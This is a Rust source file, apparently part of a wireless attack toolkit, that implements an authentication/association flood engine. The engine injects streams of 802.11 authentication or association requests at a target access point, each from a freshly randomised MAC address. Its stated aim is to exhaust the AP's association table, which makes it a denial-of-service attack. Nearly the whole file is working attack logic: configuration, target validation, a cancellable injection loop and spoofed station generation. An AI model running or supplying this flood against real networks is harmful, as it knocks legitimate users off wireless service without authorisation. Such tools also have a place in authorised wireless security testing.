//! Authentication/association flood engine.
//!
//! Streams open-system authentication or association requests at an AP,
//! each from a fresh random source MAC, to exhaust its association
//! table. Same operational contract as the other engines.

use super::controller::AttackController;
use super::engine::EngineCore;
use super::{AttackError, AttackKind, AttackStatus};
use crate::radio::frames::{FrameBuilder, SequenceCounter};
use crate::radio::Injector;
use crate::types::{MacAddr, DEFAULT_PACKET_INTERVAL_MS};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha20Rng;
use serde::{Deserialize, Serialize};
use std::sync::Arc;
use std::time::Duration;
use tracing::info;
use uuid::Uuid;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum AuthFloodType {
    /// Open-system authentication requests.
    Auth,
    /// Association requests (needs the target SSID).
    Assoc,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default, rename_all = "kebab-case")]
pub struct AuthFloodConfig {
    /// BSSID under attack. Required.
    pub target: MacAddr,
    /// Required for the assoc subtype.
    pub ssid: Option<String>,
    pub flood_type: AuthFloodType,
    /// 0 = continuous until cancelled.
    pub packet_count: u64,
    pub packet_interval_ms: u64,
    pub interface: String,
    pub channel: u16,
}

impl Default for AuthFloodConfig {
    fn default() -> Self {
        Self {
            target: MacAddr::ZERO,
            ssid: None,
            flood_type: AuthFloodType::Auth,
            packet_count: 0,
            packet_interval_ms: DEFAULT_PACKET_INTERVAL_MS,
            interface: String::new(),
            channel: 0,
        }
    }
}

pub struct AuthFloodEngine {
    core: EngineCore,
}

impl AuthFloodEngine {
    pub fn new(core: EngineCore) -> Arc<Self> {
        Arc::new(Self { core })
    }

    fn validate(cfg: &AuthFloodConfig) -> Result<(), AttackError> {
        if cfg.target.is_zero() || cfg.target.is_broadcast() {
            return Err(AttackError::ConfigInvalid("target BSSID required".into()));
        }
        if cfg.flood_type == AuthFloodType::Assoc
            && cfg.ssid.as_deref().is_none_or(str::is_empty)
        {
            return Err(AttackError::ConfigInvalid(
                "target SSID required for association flood".into(),
            ));
        }
        Ok(())
    }

    pub async fn start(&self, cfg: AuthFloodConfig) -> Result<Uuid, AttackError> {
        Self::validate(&cfg)?;
        let (injector, dedicated) = self.core.resolve_injector(&cfg.interface, cfg.channel)?;

        let config_json = serde_json::to_value(&cfg).unwrap_or(serde_json::Value::Null);
        let controller = AttackController::new(AttackKind::AuthFlood, config_json);
        if dedicated {
            controller.set_dedicated_injector(injector.clone());
        }
        if let Err(e) = self.core.register(controller.clone()) {
            controller.close_dedicated_injector();
            return Err(e);
        }

        info!(
            "Starting {:?} flood against {} on {} (id {})",
            cfg.flood_type,
            cfg.target,
            injector.interface(),
            controller.id
        );

        let worker_ctrl = controller.clone();
        let locker = self.core.locker.clone();
        self.core.supervise(controller.clone(), async move {
            let interface = injector.interface().to_string();
            let result = match (&locker, cfg.channel) {
                (Some(locker), ch) if ch > 0 => {
                    locker
                        .execute_with_lock(&interface, ch, flood(worker_ctrl.clone(), &cfg, &injector))
                        .await
                }
                _ => {
                    flood(worker_ctrl.clone(), &cfg, &injector).await;
                    Ok(())
                }
            };
            match result {
                Ok(()) => {
                    if worker_ctrl.is_cancelled() {
                        worker_ctrl.set_status(AttackStatus::Stopped);
                    } else {
                        worker_ctrl.set_status(AttackStatus::Success);
                    }
                }
                Err(e) => {
                    worker_ctrl.fail(e.to_string());
                }
            }
        });

        controller.set_status(AttackStatus::Running);
        Ok(controller.id)
    }

    pub fn stop(&self, id: Uuid, force: bool) -> Result<(), AttackError> {
        self.core.stop(id, force)
    }

    pub fn status(&self, id: Uuid) -> Result<super::ControllerSnapshot, AttackError> {
        self.core.status(id)
    }

    pub fn subscribe(
        &self,
        id: Uuid,
    ) -> Result<tokio::sync::watch::Receiver<super::ControllerSnapshot>, AttackError> {
        self.core.subscribe(id)
    }

    pub fn list(&self) -> Vec<super::ControllerSnapshot> {
        self.core.list()
    }

    pub fn stop_all(&self) {
        self.core.stop_all()
    }

    pub fn sweep_finished(&self) -> usize {
        self.core.sweep_finished()
    }
}

async fn flood(
    controller: Arc<AttackController>,
    cfg: &AuthFloodConfig,
    injector: &Arc<dyn Injector>,
) {
    let token = controller.cancel_token();
    let mut builder = FrameBuilder::new(SequenceCounter::random());
    let mut rng = ChaCha20Rng::from_entropy();
    let ssid = cfg.ssid.clone().unwrap_or_default();

    let burst = cfg.packet_count > 0;
    let mut sent: u64 = 0;
    loop {
        if token.is_cancelled() || (burst && sent >= cfg.packet_count) {
            break;
        }

        // A fresh station identity per frame is what fills the AP's
        // association table.
        let source = random_station(&mut rng);
        let frame = match cfg.flood_type {
            AuthFloodType::Auth => builder.auth_request(cfg.target, source),
            AuthFloodType::Assoc => builder.assoc_request(cfg.target, source, &ssid),
        };
        if injector.inject(&frame).is_ok() {
            controller.add_packets(1);
        }
        if !burst && sent % 10 == 0 {
            controller.publish();
        }

        sent += 1;
        if burst && sent >= cfg.packet_count {
            break;
        }
        tokio::select! {
            _ = token.cancelled() => break,
            _ = tokio::time::sleep(Duration::from_millis(cfg.packet_interval_ms.max(1))) => {}
        }
    }
    controller.publish();
}

fn random_station(rng: &mut ChaCha20Rng) -> MacAddr {
    let mut bytes = [0u8; 6];
    rng.fill(&mut bytes);
    bytes[0] = (bytes[0] | 0x02) & !0x01;
    MacAddr(bytes)
}
